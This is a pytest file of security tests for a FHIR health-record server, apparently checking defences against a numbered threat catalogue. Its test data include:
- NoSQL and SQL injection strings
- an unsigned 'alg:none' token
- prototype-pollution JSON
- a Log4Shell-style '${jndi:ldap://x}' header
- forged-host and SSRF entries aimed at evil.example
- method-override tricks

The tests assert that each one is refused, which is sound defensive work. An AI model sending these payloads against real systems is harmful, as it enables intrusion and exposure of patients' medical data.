"""Known attacks on FHIR servers, each tried over HTTP (the threat catalogue's numbers stand beside them)."""

import base64
import json
import logging
from collections.abc import Iterator
from typing import Any

import pytest

from tests.world import (
    BASE,
    Actor,
    World,
    bundle,
    consent,
    entry,
    expression,
    issues,
    observation,
    patient,
    related_person,
    unique,
)

CANARY = "Zxcanary"
FORM = "application/x-www-form-urlencoded"


@pytest.fixture
async def owner(world: World) -> Actor:
    return await world.patient()


# T-18: what is sent is a value, never an operator.


@pytest.mark.parametrize(
    "query", ["identifier[$ne]=x", "_id[$gt]=", "$where=1", "code[]=x", "subject.$ref=x", "_filter=a", "_query=x"]
)
@pytest.mark.requirement("ATK-T18")
async def test_operators_are_no_parameters(owner: Actor, query: str) -> None:
    answer = await owner.get(f"Observation?{query}")
    assert (answer.status_code, issues(answer)[0]["code"]) == (400, "not-supported")
    assert (expression(answer) or "-") in query


@pytest.mark.parametrize("value", ['{"$gt":""}', '{"$ne":null}', "$where", "a%00b", "%F0%9F%92%89", ".*", "^"])
@pytest.mark.requirement("ATK-T18")
async def test_operators_are_literal_values(world: World, owner: Actor, value: str) -> None:
    await owner.create(observation(owner.patient or ""))
    for name in ("_id", "code", "identifier", "value-string", "based-on"):
        answer = await owner.get(f"Observation?{name}={value}")
        assert answer.status_code == 200, answer.text
        assert answer.json()["total"] == 0


# T-20: JSON that two readers would read differently.


@pytest.mark.parametrize(
    "edit",
    [
        ('"status": "final"', '"status": "final", "status": "amended"'),
        ('"value": 104', '"value": NaN'),
        ('"value": 104', '"value": 1e999'),
        ('"value": 104', '"value": "104"'),
        ('"value": 104', '"value": {"$numberDecimal": "1"}'),
        ('"status": "final"', '"status": "final", "note": [{"text": "\\ud800"}]'),
        ('"status": "final"', '"status": "final", "note": [{"text": "a\\u0000b"}]'),
        ('"status": "final"', '"status": "final", "$where": "1"'),
        ('"status": "final"', '"status": "final", "__proto__": {}'),
        ('"status": "final"', '"status": "final", "extension": ' + "[" * 5_000 + "]" * 5_000),
    ],
)
@pytest.mark.requirement("ATK-T20", "SEC-022")
async def test_ambiguous_json_is_refused(world: World, owner: Actor, edit: tuple[str, str]) -> None:
    body = json.dumps(observation(owner.patient or "")).replace(*edit).encode()
    answer = await owner.post("Observation", body)
    assert answer.status_code in (400, 422), answer.text
    assert await world.stored("Observation", patient=owner.patient) == []


# T-23: cursors.


@pytest.mark.requirement("ATK-T23")
async def test_a_cursor_carries_no_right(world: World, owner: Actor) -> None:
    for _ in range(3):
        await owner.create(observation(owner.patient or ""))
    professional, stranger = await world.professional(), await world.professional()
    given = await world.consent(owner, professional)
    page = (await professional.get(f"Observation?patient={owner.patient}&_count=1")).json()
    following = page["link"][-1]["url"]
    assert owner.patient not in following
    assert (await stranger.get(following)).json().get("entry") is None
    assert (await professional.get(following.replace("/Observation?", "/DocumentReference?"))).status_code == 400
    head, cursor = following.split("=", 1)
    for broken in (
        cursor[:-2] + ("AA" if cursor[-2:] != "AA" else "BB"),
        cursor[4:],
        "",
        "é",
        "=" * 9,
        base64.b64encode(b"{}" * 20).decode(),
    ):
        answer = await professional.get(f"{head}={broken}")
        assert (answer.status_code, expression(answer)) == (400, "_cursor")
    await world.revoke(owner, given)
    emptied = (await professional.get(following)).json()
    assert "entry" not in emptied
    assert emptied.get("total", 0) == 0


@pytest.mark.parametrize(
    "token", ["", "x", "null", "gwat_", "a.b.c", "é", "' or 1=1", "x" * 10_000, "eyJhbGciOiJub25lIn0.e30."]
)
@pytest.mark.requirement("ATK-T24", "ATK-T25", "SEC-040")
async def test_a_token_nobody_issued(world: World, token: str) -> None:
    headers = {"Authorization": b"Bearer " + token.encode("utf-8")}
    answer = await world.http.get(f"{BASE}/Patient", headers=headers)  # type: ignore[arg-type]
    assert answer.status_code == 401
    assert answer.headers["www-authenticate"].startswith('Bearer realm="fhir"')


# T-35: what only the server may say.


@pytest.mark.requirement("ATK-T35")
async def test_meta_of_the_server_is_not_the_clients(world: World, owner: Actor) -> None:
    meta = {"versionId": "77", "lastUpdated": "2001-01-01T00:00:00Z"}
    sent = observation(owner.patient or "", id="000-chosen", meta=meta)
    stored = await owner.create(sent)
    assert stored["id"] != "000-chosen"
    assert (stored["meta"]["versionId"], stored["meta"]["lastUpdated"][:4]) == ("1", f"{world.clock().year}")
    [document] = await world.stored("Observation", _id=stored["id"])
    assert (document["version"], document["source"]) == (1, "portal")


@pytest.mark.parametrize("name", ["AuditEvent", "Provenance"])
@pytest.mark.requirement("ATK-T35", "AUD-005")
async def test_nobody_writes_the_audit(world: World, owner: Actor, name: str) -> None:
    for actor in (owner, world.operator, await world.professional()):
        for answer in (
            await actor.post(name, {"resourceType": name}),
            await actor.put(f"{name}/abc-x", {"resourceType": name, "id": "abc-x"}),
            await actor.delete(f"{name}/abc-x"),
        ):
            assert answer.status_code == 405


@pytest.mark.parametrize("performer", ["Patient/{other}", "Practitioner/x", "Organization/x"])
@pytest.mark.requirement("ATK-T35")
async def test_a_consent_is_given_by_nobody_else(world: World, owner: Actor, performer: str) -> None:
    other = await world.patient()
    given = consent(owner, None, "access") | {"performer": [{"reference": performer.format(other=other.patient)}]}
    answer = await owner.post("Consent", given)
    assert answer.status_code == 422
    assert await world.stored("Consent", patient=owner.patient) == []


@pytest.mark.requirement("ATK-T11", "ATK-T35")
async def test_a_consent_for_somebody_elses_record(world: World, owner: Actor) -> None:
    """Sent by another patient, by an app, by a professional: none is stored."""
    other = await world.patient("patient/*.cruds user/*.cruds")
    app, professional = await world.app(owner, "user/*.cruds patient/*.cruds"), await world.professional()
    await world.consent(owner, app, "collect")
    before = len(await world.stored("Consent", patient=owner.patient))
    for actor in (other, app, professional, world.operator):
        given = consent(owner, actor if actor.reference else None, "access")
        answer = await actor.post("Consent", given)
        assert answer.status_code in (403, 422), answer.text
    assert len(await world.stored("Consent", patient=owner.patient)) == before


# T-08, T-09, T-11: references and Bundles that lead into another record.


@pytest.mark.parametrize("escape", [False, True])
@pytest.mark.parametrize("place", ["hasMember", "extension", "contained", "identifier.assigner", "contained.extension"])
@pytest.mark.requirement("ATK-T08", "ATK-T09")
async def test_no_reference_into_another_record(world: World, owner: Actor, place: str, escape: bool) -> None:
    """Relative and absolute, in plain bytes and with everything escaped that JSON lets escape."""
    victim = await world.patient()
    hidden = await victim.create(observation(victim.patient or ""))
    for target in (
        f"Observation/{hidden['id']}",
        f"{BASE}/Observation/{hidden['id']}",
        f"Observation/{hidden['id']}/_history/1",
    ):
        body = json.dumps(observation(owner.patient or "", **_pointing(place, target)))
        if escape:
            body = body.replace("extension", "\\u0065xtension").replace("/", "\\/").replace("http:", "\\u0068ttp:")
        answer = await owner.post("Observation", body.encode())
        assert answer.status_code == 422, (target, answer.text)
        assert issues(answer)[0]["code"] in ("not-found", "value")
    assert await world.stored("Observation", patient=owner.patient) == []


def _pointing(place: str, target: str) -> dict[str, Any]:
    extension = [{"url": "urn:x:e", "valueReference": {"reference": target}}]
    report = {"resourceType": "Observation", "id": "c", "status": "final", "code": {"text": "x"}}
    return {
        "hasMember": {"hasMember": [{"reference": target}]},
        "extension": {"extension": extension},
        "contained": {"contained": [report | {"hasMember": [{"reference": target}]}], "hasMember": [{"reference": "#c"}]},
        "contained.extension": {"contained": [report | {"extension": extension}], "hasMember": [{"reference": "#c"}]},
        "identifier.assigner": {"identifier": [{"system": "urn:x", "value": unique("i"), "assigner": {"reference": target}}]},
    }[place]


@pytest.mark.parametrize(
    "url", ["https://evil.example/fhir/Observation", "//evil.example/Observation", "Observation/../Patient", "$export", "", "/"]
)
@pytest.mark.requirement("ATK-T08", "ATK-T17")
async def test_an_entry_asks_this_service_only(owner: Actor, url: str) -> None:
    answer = await owner.post("", bundle("batch", entry("GET", url or "?")))
    assert answer.json()["entry"][0]["response"]["status"][:3] in ("400", "404")


@pytest.mark.requirement("ATK-T47")
async def test_linking_patients_opens_nothing(world: World, owner: Actor) -> None:
    other = await world.patient()
    link = [{"other": {"reference": f"Patient/{other.patient}"}, "type": "seealso"}]
    mine = (await owner.get(f"Patient/{owner.patient}")).json()
    assert (await owner.put(f"Patient/{owner.patient}", mine | {"link": link})).status_code == 403
    await world.operator.put(f"Patient/{owner.patient}", mine | {"link": link})
    assert (await owner.get(f"Patient/{other.patient}")).status_code == 404
    assert await owner.search("Patient") == [(await owner.get(f"Patient/{owner.patient}")).json()]


# T-36, T-37: what is said to operators, and to clients when something breaks.


@pytest.fixture
def lines() -> Iterator[list[str]]:
    """Everything that is logged by anybody, as it is written."""
    found: list[str] = []
    logger, root = logging.getLogger("gateway"), logging.getLogger()
    handler = logging.Handler()
    formatter = logger.handlers[0].formatter
    handler.emit = lambda record: found.append((formatter or handler).format(record))  # type: ignore[method-assign]
    level = logger.level
    logger.addHandler(handler)
    root.addHandler(handler)
    logger.setLevel(logging.DEBUG)
    yield found
    logger.setLevel(level)
    logger.removeHandler(handler)
    root.removeHandler(handler)


@pytest.mark.requirement("ATK-T36", "ATK-T37", "AUD-006")
async def test_nothing_of_anybody_in_the_log(world: World, lines: list[str], monkeypatch: pytest.MonkeyPatch) -> None:
    someone = await world.patient(name=[{"family": CANARY}])
    reading = observation(someone.patient or "", note=[{"text": CANARY}])
    stored = await someone.create(reading)
    await someone.get(f"Patient?family={CANARY}")
    await someone.get(f"Observation/{CANARY}")
    await someone.get(f"{CANARY}/{CANARY}")
    await someone.get(f"Observation?{CANARY}={CANARY}")
    await someone.post("Observation", reading | {"status": CANARY, CANARY: 1})
    await someone.get("metadata", User_Agent=f"{CANARY}\t${{jndi:ldap://x}}", Referer=CANARY, Cookie=CANARY)

    async def broken(*_: object, **__: object) -> None:
        raise RuntimeError(f"{CANARY} {stored['id']}")

    with monkeypatch.context() as patched:
        patched.setattr(type(world.gateway.mongo), "find_all", broken)
        answer = await someone.send("DELETE", f"Observation/{stored['id']}", X_Request_Id="request-of-this-test")
    assert answer.status_code == 500
    assert issues(answer) == [
        {"severity": "error", "code": "exception", "diagnostics": "Internal error (request request-of-this-test)"}
    ]
    written = "\n".join(lines)
    assert "request.failed" in written
    for secret in (CANARY, someone.token, someone.patient or "", stored["id"], "jndi"):
        assert secret not in written
    assert {json.loads(line)["event"] for line in lines} <= {"request", "request.failed", "audit.sealed"}


# T-38, T-39: who the service is, and what a request is, is not the client's to say.


@pytest.mark.parametrize("host", ["evil.example", "evil.example/x?y=", "a/b?c#", "[", "evil.example:99999", "@", ""])
@pytest.mark.requirement("ATK-T38", "SEC-048")
async def test_a_forged_host_changes_nothing(world: World, owner: Actor, host: str) -> None:
    await owner.create(observation(owner.patient or ""))
    path, request = f"Observation?patient={owner.patient}&_count=1", unique("host")
    plain = await owner.get(path)
    forged = {"X_Forwarded_Host": "evil.example", "X_Forwarded_Proto": "gopher", "Forwarded": "host=evil.example"}
    forged |= {"X_Forwarded_For": "203.0.113.9", "Client_Cert": ":MIIB:", "X_SSL_Client_Cert": "MIIB", "X_Remote_User": "root"}
    answer = await owner.get(path, Host=host, X_Request_Id=request, **forged)
    assert (answer.status_code, answer.text) == (plain.status_code, plain.text)
    [event] = await world.stored("AuditEvent", **{"event.request_id": request})
    assert base64.b64decode(event["event"]["query"]).decode() == f"GET /fhir/{path}"
    assert event["event"]["address"] == "127.0.0.1"


@pytest.mark.requirement("ATK-T39")
async def test_a_method_is_what_it_is(world: World, owner: Actor) -> None:
    stored = await owner.create(observation(owner.patient or ""))
    place = f"Observation/{stored['id']}"
    assert (await owner.get(place, X_HTTP_Method_Override="DELETE", X_Method_Override="DELETE")).status_code == 200
    assert (await owner.get(f"{place}?_method=DELETE")).status_code == 400
    assert (await owner.send("POST", place, b"_method=DELETE", Content_Type=FORM)).status_code == 405
    assert (await owner.get(place)).status_code == 200


@pytest.mark.requirement("ATK-T02", "ATK-T39")
async def test_what_stands_twice_must_hold_twice(world: World, owner: Actor) -> None:
    """In URL and form, under both names of the parameter."""
    other = await world.patient()
    await owner.create(observation(owner.patient or ""))
    for query, form in (
        (f"patient={other.patient}", f"patient={owner.patient}"),
        (f"subject={owner.patient}", f"patient={other.patient}"),
    ):
        answer = await owner.send("POST", f"Observation/_search?{query}", form.encode(), Content_Type=FORM)
        assert answer.json()["total"] == 0
    assert (await owner.get("Observation?_count=1&_count=2")).status_code == 400


@pytest.mark.parametrize("encoding", ["gzip", "br", "deflate", "gzip, identity"])
@pytest.mark.requirement("ATK-T21")
async def test_nothing_is_unpacked(owner: Actor, encoding: str) -> None:
    answer = await owner.post("Observation", b"\x1f\x8b" + b"\0" * 99, Content_Encoding=encoding)
    assert answer.status_code == 415


# T-41: a device that reports for somebody else.


@pytest.mark.requirement("ATK-T41", "ATK-T43")
async def test_an_app_reports_for_its_patient_only(world: World, owner: Actor) -> None:
    """Paired with one patient, it hears the same of another one as of nobody, by id and by identifier, valid or not."""
    victim_number = unique("ins")
    victim = await world.patient(identifier=[{"system": "urn:x:ins", "value": victim_number}])
    app = await world.app(owner)
    await world.consent(owner, app, "collect", ["Observation"])
    unsafe = {"text": {"status": "generated", "div": "<div>x</div>"}}
    for more in ({}, unsafe):
        subjects: tuple[dict[str, Any], ...] = (
            {"reference": f"Patient/{victim.patient}"},
            {"reference": f"Patient/{world.gateway.ids.new('abc')}"},
            {"identifier": {"system": "urn:x:ins", "value": victim_number}},
            {"identifier": {"system": "urn:x:ins", "value": unique("ins")}},
        )
        answers = [await app.post("Observation", observation("x", subject=subject, **more)) for subject in subjects]
        assert len({(answer.status_code, answer.text) for answer in answers}) == 1
        assert answers[0].status_code in (403, 422)
    assert await world.stored("Observation", patient=victim.patient) == []


# T-46: who acts for somebody.


@pytest.mark.requirement("ATK-T46")
async def test_a_proxy_of_one_is_nothing_to_another(world: World, owner: Actor) -> None:
    other = await world.patient()
    proxy = await world.proxy(other, "patient/*.cruds user/*.cruds system/*.cruds")
    assert (await proxy.get(f"Patient/{owner.patient}")).status_code == 404
    assert (await proxy.get(f"Observation?patient={owner.patient}")).json()["total"] == 0
    assert (await proxy.post("Observation", observation(owner.patient or ""))).status_code == 422
    assert (await proxy.post("RelatedPerson", related_person(owner.patient or ""))).status_code == 403
    assert (await proxy.post("Patient", patient())).status_code == 403
